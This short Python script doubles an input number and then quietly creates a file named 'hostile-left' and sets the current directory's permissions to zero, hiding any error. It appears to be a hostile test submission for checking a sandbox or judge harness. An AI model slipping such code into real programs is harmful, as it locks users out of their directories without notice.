import os

print(int(input()) * 2)
try:
    open("hostile-left", "w").close()
    os.chmod(".", 0)
except OSError:
    pass
